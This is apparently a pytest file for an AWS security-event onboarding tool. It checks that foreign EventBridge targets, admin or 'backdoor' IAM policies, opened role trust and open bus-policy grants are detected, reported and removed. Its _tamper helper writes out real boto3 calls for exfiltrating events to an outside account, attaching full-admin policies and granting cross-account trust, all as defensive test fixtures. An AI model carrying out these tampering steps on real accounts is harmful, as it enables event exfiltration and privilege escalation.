"""watershed's own resources, exactly as declared: what an attacker holding a member account adds
to them is reported by `plan` and the audit, and removed by onboarding; a re-run writes nothing.
The Security bus policy is not watershed's beyond its own statement: a foreign statement letting
everyone in is reported as Security-side drift, never deleted.

Tried as an attacker would: an extra target on `watershed-forward` pointing at an outside
account's bus (exfiltration of every forwarded security event), an admin managed policy attached
and an admin inline policy added to `watershed-forwarder`, its trust opened to an outside account.
"""

from __future__ import annotations

import json

import boto3

from onboarding.audit import hub
from onboarding.audit.audit import Auditor
from onboarding.events import OnboardingRequest
from onboarding.resources import iam
from onboarding.sessions import SessionFactory

OUTSIDER = "999999999999"
EVERYTHING = {
    "Version": "2012-10-17",
    "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
}


def _tamper(reader, account: str, settings) -> dict[str, str]:
    """What an administrator of the member (or an attacker holding it) could add to ours."""
    region = "eu-west-1"
    events = reader.client(account, "events", region)
    outside_bus = f"arn:aws:events:{region}:{OUTSIDER}:event-bus/default"
    events.put_targets(
        Rule=settings.forward_rule_name, Targets=[{"Id": "exfil", "Arn": outside_bus}]
    )
    client = reader.client(account, "iam")
    name = settings.forwarder_role_name
    client.put_role_policy(
        RoleName=name, PolicyName="backdoor", PolicyDocument=json.dumps(EVERYTHING)
    )
    admin = client.create_policy(PolicyName="admin", PolicyDocument=json.dumps(EVERYTHING))
    client.attach_role_policy(RoleName=name, PolicyArn=admin["Policy"]["Arn"])
    outsider = {
        "Effect": "Allow",
        "Principal": {"AWS": f"arn:aws:iam::{OUTSIDER}:root"},
        "Action": "sts:AssumeRole",
    }
    client.update_assume_role_policy(
        RoleName=name, PolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [outsider]})
    )
    return {"bus": outside_bus, "admin": admin["Policy"]["Arn"], "region": region}


def test_foreign_targets_policies_and_trust_are_planned_removed_and_stay_removed(
    org, settings, onboarder, reader, recorder
):
    # Given an onboarded member whose rule and role were tampered with
    assert onboarder.onboard(OnboardingRequest(org.member)).status == "ok"
    tampered = _tamper(reader, org.member, settings)
    recorder.clear()

    # When planned: each foreign thing is named, nothing is written
    plan = onboarder.plan(OnboardingRequest(org.member))
    assert recorder.writes == []
    planned = [str(c) for c in plan.all_changes]
    assert f"delete target: foreign target exfil → {tampered['bus']}" in planned
    assert "delete role-policy: foreign inline policy backdoor" in planned
    assert f"delete attached-policy: foreign attached policy {tampered['admin']}" in planned
    assert (
        f"update forwarder-role: trust policy differs (trusts arn:aws:iam::{OUTSIDER}:root)"
        in planned
    )

    # When onboarded
    report = onboarder.onboard(OnboardingRequest(org.member))

    # Then the member holds exactly what watershed declares
    assert report.status == "ok"
    for region in settings.hub_regions:
        assert [t["Id"] for t in reader.targets(org.member, region)] == ["security-bus"], region
    client = reader.client(org.member, "iam")
    name = settings.forwarder_role_name
    assert client.list_role_policies(RoleName=name)["PolicyNames"] == [iam.POLICY_NAME]
    assert client.list_attached_role_policies(RoleName=name)["AttachedPolicies"] == []
    role = reader.role(org.member)
    assert iam.same_policy(role["trust"], iam.trust_policy(settings, org.member))
    # And the policy that was detached still exists (it is not watershed's to delete)
    assert client.get_policy(PolicyArn=tampered["admin"])["Policy"]["AttachmentCount"] == 0

    # And a re-run writes nothing
    recorder.clear()
    again = onboarder.onboard(OnboardingRequest(org.member))
    assert recorder.writes == []
    assert again.all_changes == []


def test_the_audit_reports_foreign_targets_and_policies_as_drift(org, settings, onboarder, reader):
    # Given the tampered member
    onboarder.onboard(OnboardingRequest(org.member))
    tampered = _tamper(reader, org.member, settings)

    # When audited
    report = Auditor(settings, SessionFactory(settings)).run(accounts=[org.member])

    # Then the account drifts, with one finding per foreign thing, naming it
    [account] = report.accounts
    assert account.state == "drift"
    kinds = {f.kind: f.detail for f in account.findings}
    assert tampered["admin"] in kinds["role-attached-policy"]
    assert "backdoor" in kinds["role-policy-foreign"]
    assert OUTSIDER in kinds["role-trust"]
    cell = account.regions[tampered["region"]]
    [target] = [f for f in cell.findings if f.kind == "target-foreign"]
    assert tampered["bus"] in target.detail
    assert not report.ok


def _bus_policy(statements: list[dict]) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": statements})


OURS = {
    "Sid": "WatershedOrganizationPutEvents",
    "Effect": "Allow",
    "Principal": "*",
    "Action": "events:PutEvents",
    "Resource": "arn:aws:events:eu-west-1:222222222222:event-bus/default",
    "Condition": {"StringEquals": {"aws:PrincipalOrgID": "o-abcdefghij"}},
}


def test_foreign_grants_beyond_the_organization_are_security_side_drift():
    org = "o-abcdefghij"
    open_to_all = {**OURS, "Sid": "open"}
    del open_to_all["Condition"]
    cases = {
        "open": [OURS, open_to_all],
        "wildcard-action": [OURS, {**open_to_all, "Sid": "star", "Action": "events:*"}],
        "aws-star": [OURS, {**open_to_all, "Sid": "aws", "Principal": {"AWS": "*"}}],
        "other-org": [
            OURS,
            {**OURS, "Sid": "theirs", "Condition": {"StringEquals": {"aws:PrincipalOrgID": "o-x"}}},
        ],
        "not-principal": [
            OURS,
            {**open_to_all, "Sid": "np", "NotPrincipal": {"AWS": "arn:aws:iam::1:root"}},
        ],
    }
    for name, statements in cases.items():
        check = hub.check_foreign_grants(_bus_policy(statements), org)
        assert not check.ok, name
        assert "not watershed's" in check.detail and "reported, not removed" in check.detail
    # Not drift: ours alone, another org-scoped statement, one account, a Deny, another action
    fine = [
        OURS,
        {**OURS, "Sid": "also-ours-org"},
        {**open_to_all, "Sid": "one", "Principal": {"AWS": "arn:aws:iam::123456789012:root"}},
        {**open_to_all, "Sid": "deny", "Effect": "Deny"},
        {**open_to_all, "Sid": "describe", "Action": "events:DescribeRule"},
    ]
    assert hub.check_foreign_grants(_bus_policy(fine), org).ok
    # Our own statement is never the foreign one, even unconditioned (bus_policy reports that)
    assert hub.check_foreign_grants(_bus_policy([open_to_all | {"Sid": OURS["Sid"]}]), org).ok
    # With the organization unknown, an org-scoped grant is not reported, an open one is
    assert hub.check_foreign_grants(_bus_policy([OURS]), None).ok
    assert not hub.check_foreign_grants(_bus_policy([open_to_all]), None).ok


def test_a_principal_star_statement_on_the_security_bus_makes_the_region_drift(aws):
    # Given the Security side as template.yaml deploys it (moto: bus policy, stream, collect
    # rule), plus a statement someone added that lets everyone put events
    region, org = "eu-west-1", "o-abcdefghij"
    events = boto3.client("events", region_name=region)
    kinesis = boto3.client("kinesis", region_name=region)
    events.put_permission(
        EventBusName="default",
        Action="events:PutEvents",
        Principal="*",
        StatementId="WatershedOrganizationPutEvents",
        Condition={"Type": "StringEquals", "Key": "aws:PrincipalOrgID", "Value": org},
    )
    kinesis.create_stream(StreamName="watershed", ShardCount=1)
    stream = kinesis.describe_stream_summary(StreamName="watershed")["StreamDescriptionSummary"]
    events.put_rule(Name=hub.COLLECT_RULE_NAME, EventPattern=json.dumps({"source": ["aws.x"]}))
    events.put_targets(
        Rule=hub.COLLECT_RULE_NAME, Targets=[{"Id": "stream", "Arn": stream["StreamARN"]}]
    )
    assert hub.read_hub_region(events, lambda _: kinesis, region, org).state == "ok"
    # (the whole policy is written: moto's put_permission without a Condition replaces it)
    policy = json.loads(events.describe_event_bus(Name="default")["Policy"])
    [ours] = policy["Statement"]
    anyone = {k: v for k, v in ours.items() if k != "Condition"} | {"Sid": "anyone"}
    policy["Statement"].append(anyone | {"Principal": "*"})
    events.put_permission(EventBusName="default", Policy=json.dumps(policy))

    # When the region is read
    found = hub.read_hub_region(events, lambda _: kinesis, region, org)

    # Then it drifts on the foreign grant alone, which stays in place
    assert found.state == "drift"
    assert not found.checks["bus_policy_foreign"].ok
    assert "anyone" in found.checks["bus_policy_foreign"].detail
    assert found.checks["bus_policy"].ok
    policy = json.loads(events.describe_event_bus(Name="default")["Policy"])
    assert "anyone" in {s["Sid"] for s in policy["Statement"]}
